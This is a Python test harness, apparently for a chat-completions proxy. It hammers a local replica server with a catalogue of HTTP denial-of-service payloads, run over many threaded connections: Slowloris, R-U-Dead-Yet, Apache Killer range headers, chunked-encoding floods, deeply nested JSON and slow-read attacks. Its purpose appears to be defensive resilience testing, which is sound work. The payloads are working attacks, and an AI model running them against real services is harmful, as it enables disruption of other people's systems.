"""Attacks on a replica, each by one connection, over and over: `python hostile.py NAME CONNECTIONS PORT [KEY]`.

It is a process of its own: what it costs is not the server's, nor that of whoever measures. It imports nothing but the
standard library. Those of public lists are named as they are known there.
"""

from __future__ import annotations

import itertools
import os
import socket
import sys
import threading
import time
from collections.abc import Callable, Iterator

CHAT = "/v1/chat/completions"
_FLOOD = 256 * 1024

Attack = Iterator[bytes]
"""What one connection sends, piece by piece. An empty piece: wait for an answer, as far as 64 KiB of it."""


def _head(key: str, *fields: str, path: str = CHAT, method: str = "POST") -> bytes:
    who = [f"Authorization: Bearer {key}"] if key else []
    lines = [f"{method} {path} HTTP/1.1", "Host: gasket.test", *who, *fields, "", ""]
    return "\r\n".join(lines).encode()


def _many(piece: bytes) -> bytes:
    return piece * max(1, _FLOOD // len(piece))


def _endless(head: bytes, piece: bytes, *, pause: float = 0) -> Attack:
    yield head
    while True:
        yield piece
        if pause:
            time.sleep(pause)


def _chunks(piece: bytes) -> Callable[[str], Attack]:
    return lambda key: _endless(_head(key, "Transfer-Encoding: chunked"), _many(piece))


def _request(body: bytes) -> Callable[[str], Attack]:
    def attack(key: str) -> Attack:
        ask = _head(key, f"Content-Length: {len(body)}", "Content-Type: application/json") + body
        while True:
            yield ask
            yield b""

    return attack


def _pieces_of_a_body(key: str) -> Attack:
    return _endless(_head(key, "Content-Length: 30000000"), b"{")


def _never_reading(key: str) -> Attack:
    """Slow read: the answer is of any length, and the client takes nothing of it."""
    body = b'{"model": "model-a", "stream": true}'
    yield _head(key, f"Content-Length: {len(body)}") + body
    time.sleep(60)


def _sent_ahead(key: str) -> Attack:
    body = b'{"model": "model-a", "stream": true}'
    return _endless(_head(key, f"Content-Length: {len(body)}") + body, b"x" * _FLOOD)


def _reconnecting(*pieces: bytes) -> Callable[[str], Attack]:
    return lambda _key: iter(pieces)


_PART = b'--b\r\nContent-Disposition: form-data; name="x"; x=' + b'"\\a;name' * 110 + b"\r\n\r\nx\r\n"
_FORM = _PART * 101

ATTACKS: dict[str, Callable[[str], Attack]] = {
    "chunks of one byte": _chunks(b"1\r\nx\r\n"),
    "chunks of two bytes": _chunks(b"2\r\nxx\r\n"),
    "chunks of three bytes": _chunks(b"3\r\n   \r\n"),
    "chunks of 4 KiB": _chunks(b"1000\r\n%b\r\n" % (b" " * 4096)),
    "chunk extensions": _chunks(b"1;a=%b\r\nx\r\n" % (b"b" * 200)),
    "one chunk extension": lambda key: _endless(_head(key, "Transfer-Encoding: chunked") + b"1;", b"x" * _FLOOD),
    "zeros before a chunk's size": _chunks(b"0" * 1000 + b"1\r\nx\r\n"),
    "a trailer without end": lambda key: _endless(
        _head(key, "Transfer-Encoding: chunked") + b"1\r\nx\r\n0\r\n", _many(b"X: 1\r\n")
    ),
    "slow head (Slowloris)": lambda key: _endless(_head(key)[:-2], b"X-A: b\r\n", pause=0.01),
    "slow body (R-U-Dead-Yet)": lambda key: _endless(_head(key, "Content-Length: 1000000"), b"x", pause=0.01),
    "a body byte by byte": _pieces_of_a_body,
    "a head byte by byte": lambda key: _endless(_head(key)[:-2], b"x"),
    "a head without end": lambda key: _endless(_head(key)[:-2] + b"X: ", b"x" * _FLOOD),
    "fields without end": lambda key: _endless(_head(key)[:-2], _many(b"X:\r\n")),
    "as many fields as may be": lambda key: itertools.cycle(
        [_head(key, *[f"X-{number}: {number}" for number in range(250)], "Content-Length: 0"), b""]
    ),
    "a long target": lambda key: itertools.cycle([_head(key, path="/v1/" + "a" * 60_000, method="GET"), b""]),
    "ranges (Apache Killer)": lambda key: itertools.cycle(
        [_head(key, "Range: bytes=0-" + ",5-".join(map(str, range(9_000))), path="/v1/models", method="GET"), b""]
    ),
    "empty lines": lambda _key: _endless(b"", b"\r\n" * (_FLOOD // 2)),
    "zeros": lambda _key: _endless(b"", b"\0" * _FLOOD),
    "pipelined requests": lambda key: _endless(b"", _many(_head(key, path="/v1/models", method="GET"))),
    "requests without a key": lambda _key: itertools.cycle([_head("", "Content-Length: 0"), b""]),
    "a declared body of 1 TB": lambda key: _endless(_head(key, "Content-Length: 1000000000000"), b"x" * _FLOOD),
    "an upgrade": lambda key: _endless(
        _head(key, "Connection: Upgrade", "Upgrade: websocket", "Transfer-Encoding: chunked"), _many(b"2\r\nxx\r\n")
    ),
    "HTTP/2": lambda _key: _endless(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"\0\0\0\4\0\0\0\0\0" * 20_000),
    "connections": _reconnecting(b"G"),
    "never reading": _never_reading,
    "sent ahead": _sent_ahead,
    "empty lists": _request(b'{"model": "model-a", "x": [' + b"[]," * 200_000 + b"0]}"),
    "nested lists": _request(b'{"model": "model-a", "x": ' + b"[" * 400_000),
    "keys of one name": _request(b'{"model": "model-a"' + b', "model": 1' * 80_000 + b"}"),
    "parts of a form": lambda key: itertools.cycle(
        [
            _head(key, f"Content-Length: {len(_FORM)}", "Content-Type: multipart/form-data; boundary=b") + _FORM,
            b"",
        ]
    ),
}
UPSTREAM_STREAMS = ("never reading",)
UPSTREAM_WAITS = ("sent ahead",)
"""Attacks during an answer that is long, or does not come: they need a key."""
WITHOUT_A_KEY = [name for name in ATTACKS if name not in UPSTREAM_STREAMS + UPSTREAM_WAITS]


def _attack(name: str, port: int, key: str) -> None:
    """One connection after the other, each until the server ends it."""
    while True:
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=30) as connection:
                connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
                for piece in ATTACKS[name](key):
                    if piece:
                        connection.sendall(piece)
                    elif not connection.recv(65_536):
                        break
        except OSError:
            time.sleep(0.001)


if __name__ == "__main__":
    os.nice(5)
    attack, connections, port, *key = sys.argv[1:]
    for _ in range(int(connections)):
        threading.Thread(target=_attack, args=(attack, int(port), "".join(key)), daemon=True).start()
    sys.stdin.read()
